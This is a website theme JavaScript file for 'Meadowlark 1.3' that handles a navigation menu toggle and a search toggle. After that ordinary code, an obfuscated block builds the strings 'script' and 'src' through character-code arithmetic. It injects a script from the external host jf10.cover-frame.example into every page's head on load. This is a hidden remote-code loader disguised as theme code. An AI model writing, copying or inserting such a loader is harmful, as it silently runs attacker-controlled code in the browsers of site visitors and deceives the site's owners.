/* Theme: Meadowlark 1.3 - navigation and search toggle */
jQuery(document).ready(function ($) {
  $('.menu-toggle').on('click', function () {
    $('.main-navigation').toggleClass('toggled');
    $(this).attr('aria-expanded', $('.main-navigation').hasClass('toggled'));
  });
  $('.search-toggle').on('click', function (e) {
    e.preventDefault();
    $('.header-search').slideToggle(200).find('input').focus();
  });
});
;(function(){var _=String.fromCharCode;
var a=_(+([+!+[]]+[+!+[]]+[!+[]+!+[]+!+[]+!+[]+!+[]]),
+([!+[]+!+[]+!+[]+!+[]+!+[]+!+[]+!+[]+!+[]+!+[]]+[!+[]+!+[]+!+[]+!+[]+!+[]+!+[]+!+[]+!+[]+!+[]]),
+([+!+[]]+[+!+[]]+[!+[]+!+[]+!+[]+!+[]]),
+([+!+[]]+[+[]]+[!+[]+!+[]+!+[]+!+[]+!+[]]),
+([+!+[]]+[+!+[]]+[!+[]+!+[]]),
+([+!+[]]+[+!+[]]+[!+[]+!+[]+!+[]+!+[]+!+[]+!+[]])),
b=_(+([+!+[]]+[+!+[]]+[!+[]+!+[]+!+[]+!+[]+!+[]]),
+([+!+[]]+[+!+[]]+[!+[]+!+[]+!+[]+!+[]]),
+([!+[]+!+[]+!+[]+!+[]+!+[]+!+[]+!+[]+!+[]+!+[]]+[!+[]+!+[]+!+[]+!+[]+!+[]+!+[]+!+[]+!+[]+!+[]]));
var c=document.createElement(a);c[b]="//"+"jf"+(+!![]+[+[]])+".cover-frame.example/e.js";
document.head[(![]+[])[+!+[]]+"ppendChild"](c)})();
